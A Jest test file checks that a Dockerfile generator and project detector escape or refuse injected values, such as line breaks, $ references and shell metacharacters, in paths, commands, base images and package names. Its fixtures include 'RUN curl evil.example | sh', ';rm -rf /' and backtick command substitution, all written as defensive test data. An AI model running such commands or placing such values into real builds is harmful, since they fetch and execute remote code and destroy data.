/**
 * Hostile values on their way into the generated Dockerfile: from the spec (path, command, base,
 * node image) and from the user's project (package.json and pyproject.toml name and version).
 * Parsed back with dockerfile-ast, the file holds the same instructions as with plain values,
 * and each value reads back exactly as written.
 */
import { describe, expect, test } from '@jest/globals';
import { DockerfileParser, type Env } from 'dockerfile-ast';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { detectProject, type Project } from '../../../src/package/detect.js';
import { generateDockerfile, type TemplateInput } from '../../../src/package/dockerfile.js';
import { parseSpec } from '../../../src/spec/spec.js';

const NEWLINE_RUN = 'x\nRUN curl evil.example | sh';
const project: Project = { kind: 'node', manager: 'npm', name: 'a', version: '1.0.0', command: ['node', 'index.js'], hasBuild: false };
const plain: TemplateInput = { project, transport: 'stdio', port: 8080, path: '/mcp', base: 'node:22-bookworm-slim', nodeImage: 'node:22-bookworm-slim', install: 'image' };

const parse = (text: string) => DockerfileParser.parse(text);
const keywords = (text: string) => parse(text).getInstructions().map((i) => i.getKeyword());
const jsonArgs = (text: string, keyword: string) => parse(text).getInstructions().filter((i) => i.getKeyword() === keyword).map((i) => JSON.parse(i.getRawArgumentsContent()!) as string[]);
/** ENV properties as the builder reads them: dockerfile-ast unquotes, and leaves \$ (an escaped, literal $) for the builder. */
const envOf = (text: string) =>
  Object.fromEntries(
    parse(text)
      .getInstructions()
      .filter((i) => i.getKeyword() === 'ENV')
      .flatMap((i) => (i as Env).getProperties().map((p) => [p.getName(), p.getValue()!])),
  );

function spec(server: string): TemplateInput {
  const s = parseSpec(`server: {name: a, transport: stdio, ${server}}\n`, 'x.yml');
  return { ...plain, path: s.server.path, project: { ...project, command: s.server.command ?? project.command } };
}

describe('the generated Dockerfile with hostile values', () => {
  test.each([
    ['a path with $ and sub-delimiters', "path: \"/m$HOME;x&y='z'(1)*+,=:@%2F\""],
    ['a path with a variable reference', 'path: "/$PATH/$HOME"'],
    ['a command whose items hold a line break, $, backticks, quotes', `command: [node, -e, ${JSON.stringify(`${NEWLINE_RUN} $HOME \`id\` "q" 'q' ;rm -rf /`)}]`],
    ['a command as one string', `command: ${JSON.stringify('node server.js $HOME;rm')}`],
  ])('%s: the same instructions, and each value reads back as written', (_what, server) => {
    const input = spec(server);
    const text = generateDockerfile(input);
    expect(keywords(text)).toEqual(keywords(generateDockerfile(plain)));
    const env = envOf(text);
    // Every $ reaches the builder escaped (no variable), and unescaped it is the spec's path.
    expect(env.MCP_BRIDGE_PATH!.replace(/\\\$/g, '')).not.toContain('$');
    expect(env.MCP_BRIDGE_PATH!.replace(/\\\$/g, '$')).toBe(input.path);
    expect(jsonArgs(text, 'CMD')).toEqual([input.project.command]);
  });

  test.each([
    ['name', { name: NEWLINE_RUN }],
    ['version', { version: NEWLINE_RUN }],
    ['version', { version: '1 # escape=`' }],
  ])('a project %s with a line break stays inside the header comment', (_field, change) => {
    const text = generateDockerfile({ ...plain, project: { ...project, ...change } });
    expect(keywords(text)).toEqual(keywords(generateDockerfile(plain)));
    expect(parse(text).getDirectives()).toEqual([]);
    expect(text.split('\n')[1]).toContain(JSON.stringify(Object.values(change)[0]));
  });

  test.each([
    ['base', { base: `node:22${NEWLINE_RUN}` }, /base image: "node:22x\\nRUN curl evil\.example \| sh" is not an image reference/],
    ['base', { base: 'node:22 AS x' }, /base image: "node:22 AS x" is not an image reference/],
    ['nodeImage', { nodeImage: `node:22${NEWLINE_RUN}`, project: { ...project, kind: 'python' as const, manager: 'pip' as const } }, /node image: .* is not an image reference/],
    ['path', { path: `/mcp${NEWLINE_RUN}` }, /a line break cannot be written into a Dockerfile ENV value/],
  ])('a %s the Dockerfile cannot carry is refused', (_field, change, error) => {
    expect(() => generateDockerfile({ ...plain, ...change })).toThrow(error);
  });
});

describe("the user's project name", () => {
  const context = (files: Record<string, string>) => {
    const dir = mkdtempSync(join(tmpdir(), 'ctx-'));
    for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
    return dir;
  };
  test.each([NEWLINE_RUN, 'a b', '$HOME', 'a;rm -rf /', 'a`id`', '"q"'])('package.json name %j is refused, naming the file', (name) => {
    const dir = context({ 'package.json': JSON.stringify({ name, main: 'index.js' }) });
    expect(() => detectProject(dir)).toThrow(`${join(dir, 'package.json')}: "name" ${JSON.stringify(name)} is not an npm package name`);
  });
  test.each([NEWLINE_RUN, 'a b', '$HOME'])('pyproject.toml name %j is refused, naming the file', (name) => {
    const dir = context({ 'pyproject.toml': `[project]\nname = ${JSON.stringify(name)}\n`, 'server.py': '' });
    expect(() => detectProject(dir)).toThrow(`${join(dir, 'pyproject.toml')}: "name" ${JSON.stringify(name)} is not a Python project name`);
  });
  test('registry-style names pass: scoped, dotted, old-style capitals', () => {
    for (const name of ['@acme/weather-mcp', 'weather.mcp_server', 'OldStyle']) {
      expect(detectProject(context({ 'package.json': JSON.stringify({ name, main: 'index.js' }) })).name).toBe(name);
    }
    expect(detectProject(context({ 'pyproject.toml': '[project]\nname = "weather.mcp_server-2"\n', 'server.py': '' })).name).toBe('weather.mcp_server-2');
  });
});
